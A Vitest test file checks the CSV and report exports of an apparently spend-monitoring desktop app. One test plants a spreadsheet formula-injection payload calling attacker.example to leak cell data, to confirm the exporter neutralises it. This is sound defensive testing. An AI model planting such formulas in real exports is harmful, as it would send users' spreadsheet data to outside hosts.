import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { createEngine, type Engine } from '../../electron/engine/engine';
import { fromCsv } from '../../shared/csv-export';
import { REPORT_KINDS, REPORT_TABLES } from '../../shared/api/report-types';
import { tempDbPath } from '../helpers';

describe('report-csv and report-data on the demo organisation', () => {
  let engine: Engine;
  const win = { from: '2026-09-01', to: '2026-10-31' };

  beforeAll(async () => {
    engine = createEngine({ dbPath: tempDbPath(), mode: 'test' });
    await engine.invoke('demo-load', {});
  });
  afterAll(() => engine.close());

  it('neutralises a cell that starts with "=" end to end (an incident title from an import)', async () => {
    const db = engine.ctx.db;
    const evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
    const id = Number(db.prepare(`INSERT INTO incidents (source, external_id, title, started_at, detected_at, created_at) VALUES ('test', '@SUM(1+1)', ?, '2026-10-02T00:00:00Z', '2026-10-02T08:00:00Z', '2026-10-03T00:00:00Z')`).run(evil).lastInsertRowid);
    try {
      const out = await engine.invoke('report-csv', { report: 'incidents', table: 'incidents', ...win });
      expect(out.csv.startsWith('\uFEFF')).toBe(true);
      const body = out.csv.slice(1);
      // What a spreadsheet sees: every cell quoted, the formula behind a quote, so it is text.
      const raw = fromCsv(body, { raw: true });
      const row = raw.find((r) => r[1].includes('HYPERLINK'))!;
      expect(row[0]).toBe("'@SUM(1+1)");
      expect(row[1]).toBe(`'${evil}`);
      expect(body).not.toMatch(/(^|,)"?=/m);
      // and the round trip gives the text back
      expect(fromCsv(body).find((r) => r[0] === '@SUM(1+1)')![1]).toBe(evil);
    } finally {
      db.prepare('DELETE FROM incidents WHERE id = ?').run(id);
    }
  });

  it('exports every table of every report, with the header the report table has', async () => {
    for (const report of REPORT_KINDS) {
      const data = await engine.invoke('report-data', { report, ...win });
      expect(data.report).toBe(report);
      expect(data.meta.tables.map((t) => t.name)).toEqual([...REPORT_TABLES[report]]);
      expect(data.meta.sources.map((s) => s.fileName)).toEqual(['demo']);
      for (const t of data.meta.tables) {
        const out = await engine.invoke('report-csv', { report, table: t.name, ...win });
        const records = fromCsv(out.csv.slice(1));
        expect(records.length, `${report}/${t.name}`).toBe(out.rows + 1);
        expect(out.fileName).toBe(`drawdown-${report}-${t.name}-2026-09-01-2026-10-31.csv`);
      }
    }
    await expect(engine.invoke('report-csv', { report: 'forecast', table: 'variances', ...win })).rejects.toThrow(/tables: blocks, accounts, burn, outlook/);
  });

  it('writes money as exact decimals of the engine’s micro-units', async () => {
    const r = await engine.invoke('reconciliation-get', win);
    const out = await engine.invoke('report-csv', { report: 'reconciliation', table: 'periods', ...win });
    const [head, ...rows] = fromCsv(out.csv.slice(1));
    const consumed = head.indexOf('consumed (usage billed)');
    expect(rows.map((x) => x[consumed])).toEqual(r.rows.map((x) => String(x.consumedMicros / 1e6)));
    expect(rows.reduce((s, x) => s + Math.round(Number(x[consumed]) * 1e6), 0)).toBe(r.totals[0].consumedMicros);
  });

  it('forecasts with the forecast area’s simulation where it exists, the ledger beside it', async () => {
    const d = await engine.invoke('report-data', { report: 'forecast', ...win });
    if (d.report !== 'forecast') throw new Error('wrong report');
    expect(d.forecast.method).toBe('simulation');
    expect(d.forecast.simulation!.accounts.map((a) => a.accountName).sort()).toEqual(['AWS Bedrock billing account', 'Anthropic — Claude org', 'OpenAI — shared production org']);
    expect(d.forecast.chart.lines.filter((l) => l.projected).every((l) => l.name.endsWith('P50 (simulated)'))).toBe(true);
    expect(d.forecast.blocks.length).toBeGreaterThan(0);
  });

  it('summarises the posture with the framework mapping the brief names', async () => {
    const d = await engine.invoke('report-data', { report: 'summary', ...win });
    if (d.report !== 'summary') throw new Error('wrong report');
    const refs = d.summary.frameworks.map((f) => f.id);
    for (const id of ['GV.RM-01', 'NHI1', 'NHI2', 'NHI3', 'GOVERN', 'MAP', 'MEASURE', 'MANAGE']) expect(refs).toContain(id);
    expect(d.summary.posture.controls.length).toBeGreaterThan(0);
    expect(d.summary.findings[0]).toMatch(/^INC-2026-0412: spend spiked from 2026-09-24 02:00 UTC, detected after 9 h/);
  });
});
